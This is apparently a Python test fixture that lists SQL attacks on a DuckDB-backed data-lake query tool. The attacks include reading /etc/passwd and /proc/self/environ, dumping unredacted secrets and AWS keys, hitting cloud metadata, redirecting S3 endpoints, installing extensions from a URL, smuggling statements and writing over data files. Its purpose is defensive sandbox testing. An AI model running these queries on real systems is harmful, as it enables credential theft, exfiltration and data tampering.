"""Attacks as data: a name, the SQL, and what it tries.

Braces are filled in by the test: `canary` is a file outside the lake, `data` a data file of the
table, `sibling` a file beside it that no snapshot names, `lake` the lake's folder, `out` a path
that could be written, `url` a listener on the loopback, `bucket` the bucket of the S3 lake (or one
that is not there), `T` a table of the catalog.
"""

from __future__ import annotations

from typing import NamedTuple


class Attack(NamedTuple):
    """One attack; `why` says what would be lost if it worked."""

    name: str
    sql: str
    why: str


T = "thousand_genomes.samples"

ATTACKS = [
    # Files by name
    Attack("read_text", "SELECT content FROM read_text('{canary}')", "any file as text"),
    Attack("read_blob", "SELECT content FROM read_blob('{canary}')", "any file as bytes"),
    Attack("read_csv", "SELECT * FROM read_csv('{canary}', header = false)", "any file as CSV"),
    Attack("read_csv_auto", "SELECT * FROM read_csv_auto('{canary}')", "its older name"),
    Attack("read_json", "SELECT * FROM read_json('{canary}', format = 'unstructured')", "as JSON"),
    Attack("read_ndjson_objects", "SELECT * FROM read_ndjson_objects('{canary}')", "as JSON lines"),
    Attack("sniff_csv", "SELECT * FROM sniff_csv('{canary}')", "what a file looks like"),
    Attack("glob", "SELECT * FROM glob('{lake}/**')", "which files there are"),
    Attack("glob_function_of_scalar", "SELECT * FROM glob('{folder}/*')", "names outside"),
    Attack("read_duckdb", "SELECT * FROM read_duckdb('{canary}')", "another database"),
    Attack("replacement_scan", "SELECT * FROM '{canary}'", "FROM 'file' reads it"),
    Attack("replacement_quoted", 'FROM "{canary}"', "FROM \"file\" reads it"),
    Attack("replacement_table", "TABLE '{canary}'", "TABLE 'file' reads it"),
    Attack("replacement_qualified", 'SELECT * FROM main."{canary}"', "schema before the file"),
    Attack("sibling_parquet", "SELECT * FROM '{sibling}'", "a file beside the table"),
    Attack("sibling_read", "SELECT * FROM read_parquet('{sibling}')", "the same by function"),
    Attack("dot_dot", "SELECT * FROM read_text('{data}/../{up}')", "`..` from an allowed path"),
    Attack("dot_dot_dir", "FROM read_text('{folder}/./../{up}')", "`.` and `..` mixed"),
    Attack("proc_environ", "SELECT content FROM read_text('/proc/self/environ')", "environment"),
    Attack("file_url", "SELECT * FROM read_text('file://{canary}')", "file:// goes round prefixes"),
    Attack("glob_in_data", "FROM read_parquet('{dataglob}')", "a pattern in an allowed place"),
    Attack("glob_bracket", "FROM read_text('{canarybracket}')", "brackets spell another name"),
    Attack("parquet_metadata", "SELECT * FROM parquet_metadata('{sibling}')", "metadata of a file"),
    Attack("parquet_kv", "SELECT * FROM parquet_kv_metadata('{sibling}')", "its key-value pairs"),
    Attack("parquet_schema_upper", "SELECT * FROM PARQUET_SCHEMA('{sibling}')", "capitals"),
    Attack("list_of_files", "FROM read_parquet(['{data}', '{sibling}'])", "one good, one bad file"),
    Attack("filename_column", "SELECT * FROM read_text(['{data}', '{canary}'])", "a list again"),
    # Smuggled to another place of a query
    Attack("cte", "WITH t AS (FROM read_text('{canary}')) SELECT * FROM t", "inside a CTE"),
    Attack(
        "cte_shadow",
        "WITH t AS (SELECT * FROM t2), t2 AS (FROM read_text('{canary}')) FROM t",
        "a CTE used before it is there",
    ),
    Attack(
        "recursive_cte",
        "WITH RECURSIVE r AS (SELECT 'x' AS c UNION ALL SELECT content FROM read_text('{canary}'))"
        " SELECT * FROM r",
        "the step of a recursion",
    ),
    Attack("scalar_subquery", "SELECT (SELECT content FROM read_text('{canary}'))", "as a value"),
    Attack("exists", "SELECT EXISTS (FROM read_text('{canary}') WHERE content LIKE 'C%')", "a bit"),
    Attack(
        "lambda",
        "SELECT list_transform([1], lambda x: (SELECT content FROM read_text('{canary}')))",
        "inside a lambda",
    ),
    Attack("values", "VALUES ((SELECT content FROM read_text('{canary}')))", "inside VALUES"),
    Attack(
        "unnest", "SELECT unnest((SELECT list(content) FROM read_text('{canary}')))", "UNNEST"
    ),
    Attack(
        "unnest_from", "FROM unnest((SELECT list(content) FROM read_text('{canary}')))", "in FROM"
    ),
    Attack("lateral", "FROM {T} s, LATERAL (FROM read_text('{canary}'))", "a lateral join"),
    Attack("positional_join", "FROM {T} POSITIONAL JOIN read_text('{canary}')", "row by row"),
    Attack("asof_join", "FROM {T} ASOF JOIN read_text('{canary}') f ON sample >= content", "ASOF"),
    Attack("join_on", "FROM {T} a JOIN {T} b ON (SELECT true FROM read_text('{canary}'))", "in ON"),
    Attack("order_by", "FROM {T} ORDER BY (SELECT content FROM read_text('{canary}'))", "ordering"),
    Attack("limit", "FROM {T} LIMIT (SELECT size FROM read_text('{canary}'))", "a size by LIMIT"),
    Attack(
        "filter",
        "SELECT count(*) FILTER ((SELECT true FROM read_text('{canary}'))) FROM {T}",
        "in FILTER",
    ),
    Attack(
        "window",
        "SELECT sum(number) OVER (ORDER BY (SELECT size FROM read_text('{canary}'))) FROM {T}",
        "in a window",
    ),
    Attack(
        "qualify",
        "SELECT sample FROM {T} QUALIFY (SELECT true FROM read_text('{canary}'))",
        "in QUALIFY",
    ),
    Attack("set_operation", "SELECT 'x' UNION SELECT content FROM read_text('{canary}')", "UNION"),
    Attack("pivot", "PIVOT (FROM read_csv('{canary}')) ON column0 USING count(*)", "PIVOT a file"),
    Attack("pivot_in", "PIVOT read_csv('{canary}') ON column0 IN ('a') USING count(*)", "with IN"),
    Attack("unpivot", "UNPIVOT (FROM read_text('{canary}')) ON content", "UNPIVOT a file"),
    Attack("summarize_file", "SUMMARIZE '{canary}'", "its minimum is its text"),
    Attack("summarize_query", "SUMMARIZE FROM read_text('{canary}')", "the same over a query"),
    Attack("describe_file", "DESCRIBE '{sibling}'", "columns of a file"),
    Attack("describe_in_from", "FROM (DESCRIBE FROM read_parquet('{sibling}'))", "as a subquery"),
    Attack("explain_file", "EXPLAIN SELECT * FROM '{sibling}'", "planning opens the file"),
    Attack("explain_analyze", "EXPLAIN ANALYZE FROM read_text('{canary}')", "runs it"),
    Attack("sample_clause", "FROM (FROM read_text('{canary}')) TABLESAMPLE 100%", "a sample"),
    Attack("named_argument", "FROM read_parquet(path := '{sibling}')", "arguments by name"),
    Attack("at_clause", "FROM {T} AT (VERSION => (SELECT 1 FROM read_text('{canary}')))", "AT"),
    # SQL in strings
    Attack("query", "FROM query('FROM read_text(''{canary}'')')", "SQL in a string"),
    Attack("query_table", "FROM query_table('{sibling}')", "a table named by a string"),
    Attack("query_table_list", "FROM query_table(['{T}', '{canary}'])", "several of them"),
    Attack(
        "serialized_sql",
        "FROM json_execute_serialized_sql(json_serialize_sql('FROM read_text(''{canary}'')'))",
        "SQL as JSON",
    ),
    Attack("serialize_plan", "SELECT json_serialize_plan('FROM ''{sibling}''')", "it binds"),
    Attack("histogram_macro", "FROM histogram('{sibling}', 'x')", "a macro over query_table"),
    Attack("method_call", "SELECT 'HOME'.getenv()", "a function behind a dot"),
    Attack("qualified_function", "FROM system.main.read_text('{canary}')", "by its full name"),
    Attack("quoted_function", "FROM \"read_text\"('{canary}')", "a quoted name"),
    Attack("nested_quotes", "FROM \"re\"\"ad_text\"('{canary}')", "a quote in a name"),
    # Comments, encodings, statements
    Attack("comment_inside", "FROM read_/**/text('{canary}')", "a comment in a name"),
    Attack("comment_before", "FROM/**/read_text/**/(/**/'{canary}'/**/)", "comments as spaces"),
    Attack("comment_hides", "SELECT 1 -- ;\n; COPY (SELECT 1) TO '{out}'", "behind a comment"),
    Attack("nested_comment", "/* /* */ COPY (SELECT 1) TO '{out}' -- */", "nested comments"),
    Attack("two_statements", "SELECT 1; FROM read_text('{canary}')", "a second statement"),
    Attack("dollar_quotes", "SELECT $$a$$; COPY (SELECT 1) TO '{out}'", "dollar quotes end it"),
    Attack("fullwidth_letters", "FROM \uff52ead_text('{canary}')", "a full-width r"),
    Attack("cyrillic_letter", "FROM r\u0435ad_text('{canary}')", "a Cyrillic e"),
    Attack("kelvin_sign", "FROM read_te\u2060xt('{canary}')", "a word joiner inside"),
    Attack("no_break_space", "FROM\u00a0read_text('{canary}')", "a space that is none"),
    Attack("right_to_left", "FROM \u202eread_text('{canary}')", "reordered text"),
    Attack("escape_string", "FROM read_text(E'\\x2f' || 'etc/passwd')", "an escape string"),
    Attack("unicode_escape", "FROM read_text(U&'\\002fetc\\002fpasswd')", "a Unicode escape"),
    Attack("long_name", "FROM \"" + "a/" * 2000 + "\"", "a very long name"),
    Attack("dots_in_name", 'FROM "thousand_genomes.samples"."{canary}"', "dots in names"),
    Attack("catalog_of_duckdb", "FROM memory.main.\"{canary}\"", "the database's own name"),
    # Settings, secrets, environment, the session
    Attack("settings", "SELECT * FROM duckdb_settings()", "every setting"),
    Attack("secrets", "SELECT * FROM duckdb_secrets()", "every secret"),
    Attack("secrets_clear", "SELECT * FROM duckdb_secrets(redact := false)", "in clear"),
    Attack("which_secret", "FROM which_secret('s3://{bucket}/x', 's3')", "which secret is used"),
    Attack("current_setting", "SELECT current_setting('s3_secret_access_key')", "a secret setting"),
    Attack("current_setting_token", "SELECT current_setting('s3_session_token')", "the token"),
    Attack("getenv", "SELECT getenv('AWS_SECRET_ACCESS_KEY')", "the environment"),
    Attack("getvariable", "SELECT getvariable('x')", "a variable of the session"),
    Attack("logs", "SELECT message FROM duckdb_logs", "the log of the engine"),
    Attack("logs_parsed", "FROM duckdb_logs_parsed('HTTP')", "requests with headers"),
    Attack("databases", "SELECT path FROM duckdb_databases()", "paths of databases"),
    Attack("views_sql", "SELECT sql FROM duckdb_views()", "the files behind a view"),
    Attack("temporary_files", "FROM duckdb_temporary_files()", "paths of spilled rows"),
    Attack("extensions", "SELECT install_path FROM duckdb_extensions()", "paths of extensions"),
    Attack("prepared", "FROM duckdb_prepared_statements()", "other statements' text"),
    Attack("information_schema", "FROM information_schema.tables", "the session's tables"),
    Attack("pg_catalog", "FROM pg_catalog.pg_views", "views with their SQL"),
    Attack("sqlite_master", "SELECT sql FROM sqlite_master", "the same as SQLite has it"),
    Attack("viewdef", "SELECT pg_get_viewdef(oid) FROM pg_class", "a view's SQL"),
    Attack("show", "SHOW ALL TABLES", "every table of the session"),
    Attack("pragma", "PRAGMA database_list", "databases and their files"),
    Attack("pragma_function", "FROM pragma_database_size()", "a pragma as a table"),
    Attack("call", "CALL duckdb_settings()", "CALL of a table function"),
    Attack("enable_http_log", "CALL enable_logging('HTTP')", "headers with tokens"),
    Attack("enable_query_log", "CALL enable_logging('QueryLog', storage := 'file')", "a log file"),
    Attack("profiling", "PRAGMA enable_profiling = 'json'", "output to a file"),
    Attack("set", "SET enable_external_access = true", "open the fence"),
    Attack("set_paths", "SET allowed_directories = ['/']", "allow everything"),
    Attack("set_lock", "SET lock_configuration = false", "unlock the settings"),
    Attack("set_variable", "SET VARIABLE x = (FROM read_text('{canary}'))", "keep it"),
    Attack("set_memory", "SET memory_limit = '1TB'", "take all memory"),
    Attack("set_endpoint", "SET s3_endpoint = '{host}'", "send requests elsewhere"),
    Attack(
        "create_secret",
        "CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b', ENDPOINT '{host}')",
        "another endpoint",
    ),
    Attack("persistent_secret", "CREATE PERSISTENT SECRET s (TYPE s3)", "a file at home"),
    Attack("drop_secret", "DROP SECRET bucket_0", "lose the credentials"),
    # Other hosts
    Attack("http", "FROM read_text('{url}/x')", "a request to any host"),
    Attack("http_parquet", "FROM '{url}/x.parquet'", "FROM 'url'"),
    Attack("s3_endpoint", "FROM 's3://{bucket}/x.parquet?s3_endpoint={host}'", "endpoint in a URL"),
    Attack(
        "s3_endpoint_on_data",
        "FROM read_parquet('{data}?s3_endpoint={host}&s3_use_ssl=false')",
        "endpoint after an allowed path",
    ),
    Attack("s3_other_bucket", "FROM read_text('s3://other-bucket/x')", "another bucket"),
    Attack("s3_canary", "SELECT content FROM read_text('s3://{bucket}/canary.txt')", "same bucket"),
    Attack("s3_glob", "FROM glob('s3://{bucket}/**')", "list the bucket"),
    Attack("https_metadata", "FROM read_text('http://169.254.169.254/latest/')", "cloud metadata"),
    Attack("hf", "FROM 'hf://datasets/x/y.parquet'", "another protocol"),
    Attack("sqlite_scan", "FROM sqlite_scan('{catalog}', 'iceberg_tables')", "the lake's catalog"),
    Attack("sqlite_attach", "ATTACH '{catalog}' AS c (TYPE sqlite)", "the same by ATTACH"),
    Attack("postgres_scan", "FROM postgres_scan('host={host}', 'public', 't')", "a server"),
    Attack("iceberg_scan", "FROM iceberg_scan('{lake}')", "another reader of the lake"),
    Attack("install", "INSTALL spatial", "code from the network"),
    Attack("install_from", "INSTALL evil FROM '{url}'", "code from another host"),
    Attack("load", "LOAD '{canary}'", "code from a file"),
    Attack("autoload_type", "SELECT 'x'::INET", "a type that loads an extension"),
    Attack("autoload_function", "SELECT ST_Point(1, 2)", "a function that loads one"),
    # Writing
    Attack("copy_to", "COPY (SELECT 1) TO '{out}'", "write a file"),
    Attack("copy_over_data", "COPY (SELECT 1) TO '{data}' (FORMAT parquet)", "over a data file"),
    Attack(
        "copy_over_data_direct",
        "COPY (SELECT 1) TO '{data}' (FORMAT parquet, USE_TMP_FILE false)",
        "the same without a temporary file",
    ),
    Attack("copy_from", "COPY (FROM read_text('{canary}')) TO '{out}'", "copy a file out"),
    Attack("copy_program", "COPY (SELECT 1) TO '/dev/stdout'", "into the program's output"),
    Attack("export", "EXPORT DATABASE '{out}'", "write a folder"),
    Attack("attach", "ATTACH '{out}' AS x", "make a database file"),
    Attack("attach_data", "ATTACH '{data}' AS x", "open a data file for writing"),
    Attack("create_macro", "CREATE MACRO m() AS TABLE FROM read_text('{canary}')", "a macro"),
    Attack("create_view", "CREATE VIEW v AS FROM read_text('{canary}')", "a view"),
    Attack("create_type", "CREATE TYPE e AS ENUM (FROM read_text('{canary}'))", "ENUM"),
    Attack("insert", "INSERT INTO {T} SELECT * FROM {T}", "rows into a table"),
    Attack("update_extensions", "UPDATE EXTENSIONS", "code from the network"),
    Attack("prepare", "PREPARE p AS FROM read_text('{canary}')", "a prepared statement"),
    Attack("execute_ours", "EXECUTE lakeq(1)", "the statement that lakeq prepares"),
    Attack("parameter_breaks_out", "SELECT 1) ; COPY (SELECT 1) TO '{out}' --", "end ours early"),
    Attack("import", "IMPORT DATABASE '{folder}'", "run SQL from files"),
    # Python
    Attack("python_frame", "SELECT * FROM frame_with_secret", "a variable of the program"),
    Attack("python_global", "SELECT * FROM GLOBAL_FRAME", "a global of the program"),
    Attack("pandas_scan", "FROM pandas_scan(140000000)", "memory by address"),
    Attack("arrow_scan", "FROM arrow_scan(1, 2, 3)", "pointers into memory"),
    Attack("python_map", "FROM python_map_function(1)", "a Python function"),
]  # fmt: skip
